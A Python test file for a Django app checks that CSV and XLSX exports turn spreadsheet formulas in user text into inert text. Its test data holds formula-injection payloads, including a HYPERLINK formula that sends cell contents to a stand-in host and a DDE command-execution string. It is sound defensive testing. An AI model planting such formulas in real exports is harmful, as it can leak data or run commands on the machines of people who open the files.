"""Spreadsheet formulas in people's text never become live formulas in an export (issue 18):
every CSV/XLSX writer goes through ``common.tables.safe_cell``, and every export staff
download is fed hostile text and read back."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django_scopes import scopes_disabled
from openpyxl import load_workbook

from accounts.models import User
from applications.models import Application
from caching.data_versions import forget_data
from cities.models import City
from coaching.models import ActionItem
from cohorts.models import Cohort
from common.tables import FORMATS, safe_cell, table_bytes
from dashboards.exports import EXPORTS
from schedule.models import HoursEntry, Session
from tests import factories

pytestmark = pytest.mark.django_db
HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"Open")', "=1+1", "+1+1", "-1+A1", "@SUM(A1)",
           "\t=1+1", "\r=1+1", " =1+1"]
DANGEROUS = re.compile(r"^(\s*[=+\-@]|[\t\r\n])")


def _cells(content, fmt):
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))
                for cell in row]
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "formula cells"
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def _assert_inert(content, fmt, where):
    cells = _cells(content, fmt)
    live = [cell for cell in cells if DANGEROUS.match(cell) and not
            re.fullmatch(r"[+-]?\d+(?:[.,]\d+)*", cell)]
    assert not live, f"{where}: {live[:5]}"
    return cells


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_hostile_text_is_written_as_text(fmt):
    header = ["=cmd|' /C calc'!A0", "Name"]
    rows = [[value, -3.5] for value in HOSTILE] + [["-12", 4], ["ok", "+"]]
    cells = _assert_inert(table_bytes(header, rows, fmt=fmt, title="=Sheet/1"), fmt, fmt)
    assert "'=1+1" in cells and "'@SUM(A1)" in cells and "-12" in cells


def test_numbers_and_plain_text_are_untouched():
    assert safe_cell(-3) == -3 and safe_cell("-3.5") == "-3.5" and safe_cell("Ana") == "Ana"
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("\t1") == "'\t1"


def test_every_csv_or_xlsx_writer_goes_through_safe_cell():
    """Class-level: every module that writes a CSV or a workbook uses the one helper."""
    writers = []
    for path in sorted(Path(settings.BASE_DIR).glob("*/**/*.py")):
        if {".venv", "tests", "bench", "migrations", "scripts"} & set(path.parts):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|Workbook\(", text):
            writers.append(path.relative_to(settings.BASE_DIR).as_posix())
            assert re.search(r"safe_(cell|row)\(", text), path
    assert {"common/tables.py", "applications/admin.py"} <= set(writers)


def _make_everything_hostile():
    payloads = iter(HOSTILE * 200)
    with scopes_disabled():
        # Countries are ISO codes (two letters), so no formula fits in them.
        for model, fields in ((City, ["name", "region"]), (User, ["name"]),
                              (HoursEntry, ["note"]), (ActionItem, ["title"]),
                              (Session, ["title"]),
                              (Application, ["city_name", "region", "mayor_name"])):
            for row in model.objects.all():
                for field in fields:
                    setattr(row, field, f"{next(payloads)} {getattr(row, field)}"[:100])
                row.save(update_fields=fields)
    forget_data(everything=True)


def _staff_exports(cohort):
    for fmt in sorted(FORMATS):
        yield f"/staff/cohorts/{cohort.slug}/health.{fmt}", fmt
        for what in EXPORTS:
            yield f"/staff/cohorts/{cohort.slug}/export/{what}.{fmt}", fmt
    yield "/admin/cities/application/?export=csv", "csv"


def test_every_staff_export_writes_hostile_text_as_text(client):
    call_command("seed_demo", stdout=io.StringIO())
    _make_everything_hostile()
    client.force_login(factories.UserFactory(is_staff=True, is_superuser=True))
    seen = []
    with scopes_disabled():
        cohorts = list(Cohort.objects.all())
    for cohort in cohorts:
        for url, fmt in _staff_exports(cohort):
            response = client.get(url)
            assert response.status_code == 200, url
            seen += _assert_inert(response.content, fmt, url)
    text = "\n".join(seen)
    assert "'=HYPERLINK(" in text and "'=1+1" in text and "'@SUM(A1)" in text
